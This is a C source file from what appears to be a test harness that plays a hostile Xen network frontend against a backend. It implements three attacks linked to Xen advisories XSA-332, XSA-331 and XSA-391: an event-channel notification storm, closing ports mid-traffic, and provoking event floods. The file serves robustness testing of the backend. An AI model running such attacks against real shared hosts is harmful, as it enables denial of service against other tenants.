// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Attacks with event channels. A second thread notifies; the program's own
 * thread does not touch the channels' handle meanwhile but to close a port.
 * See hostile.h.
 */
#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>

#include "netback/netfront/hostile.h"
#include "netconf/base/loop.h"

#define BURST 64u
#define ANSWER_MS 5000u

struct storm {
	struct xnf_queue *queue;
	atomic_bool over;
	uint64_t sent;
};

static void *notify_without_end(void *arg)
{
	struct storm *storm = arg;

	while (!atomic_load(&storm->over)) {
		for (uint32_t i = 0; i < BURST; i++) {
			xnf_queue_kick_tx(storm->queue);
			xnf_queue_kick_rx(storm->queue);
		}
		storm->sent += 2ull * BURST;
	}
	return NULL;
}

static int begin_storm(struct storm *storm, pthread_t *ret_thread,
		       struct xn_err *err)
{
	int rc = pthread_create(ret_thread, NULL, notify_without_end, storm);

	return rc ? xn_fail(err, rc, "a thread: %s", strerror(rc)) : 0;
}

static void end_storm(struct storm *storm, pthread_t thread)
{
	atomic_store(&storm->over, true);
	(void)pthread_join(thread, NULL);
}

static void pause_ms(uint32_t ms)
{
	struct pollfd none = {.fd = -1};

	(void)poll(&none, 1, (int)ms);
}

static int event_storm(struct xnf_hostile *one, struct xn_err *err)
{
	struct storm storm = {.queue = one->raw.queue};
	pthread_t thread;
	int rc = begin_storm(&storm, &thread, err);

	if (rc)
		return rc;
	pause_ms(one->options.run_ms);
	end_storm(&storm, thread);
	xnf_report(one, "events", storm.sent);
	return 0;
}

static void put_frames(struct xnf_hostile *one, uint32_t count)
{
	while (count-- && xnf_raw_room(&one->raw)) {
		struct netif_tx_request request =
			xnf_raw_request(&one->raw, 60, 0);

		xnf_hostile_frame(one, xnf_raw_memory(&one->raw), 60);
		xnf_raw_put(&one->raw, &request);
	}
	xnf_raw_show(&one->raw);
}

/* The channels go while they are handled: with frames in the ring that were
 * just announced by one of them, in a storm. */
static int close_port(struct xnf_hostile *one, struct xn_err *err)
{
	uint64_t closed = 0;
	int rc = 0;

	for (uint64_t i = 0; !rc && i < xnf_hostile_count(one); i++) {
		struct storm storm = {0};
		struct xnf_queue *queue;
		pthread_t thread;

		if (i)
			rc = xnf_hostile_reconnect(one, err);
		if (rc)
			break;
		queue = storm.queue = one->raw.queue;
		rc = begin_storm(&storm, &thread, err);
		if (rc)
			break;
		put_frames(one, 64);
		closed += !xenevtchn_unbind(queue->evtchn, queue->tx_port);
		put_frames(one, 64);
		closed += queue->rx_port != queue->tx_port &&
			  !xenevtchn_unbind(queue->evtchn, queue->rx_port);
		put_frames(one, 64);
		end_storm(&storm, thread);
	}
	xnf_report(one, "ports_closed", closed);
	return rc;
}

/* Never asks for an event, and says that it wants one with each answer: the
 * backend must not flood us either (XSA-391, the other way round). */
static int want_events(struct xnf_hostile *one, struct xn_err *err)
{
	uint64_t until = xn_now_ms() + one->options.run_ms;
	uint64_t frames = 0;

	(void)err;
	while (xn_now_ms() < until) {
		put_frames(one, 32);
		if (!xnf_raw_wait(&one->raw, ANSWER_MS))
			break;
		(void)xnf_hostile_take(one);
		frames += 32;
	}
	xnf_report(one, "frames", frames);
	return 0;
}

const struct xnf_attack xnf_attacks_events[] = {
	{.name = "event-storm",
	 .advisory = "XSA-332",
	 .what = "notifies as fast as it can, for nothing",
	 .run = event_storm},
	{.name = "close-port",
	 .advisory = "XSA-331",
	 .what = "closes its event channels in a storm, with frames in the "
		 "ring",
	 .run = close_port,
	 .count = 5},
	{.name = "want-events",
	 .advisory = "XSA-391",
	 .what = "small bursts, each with an event both ways",
	 .run = want_events},
	{.name = NULL},
};
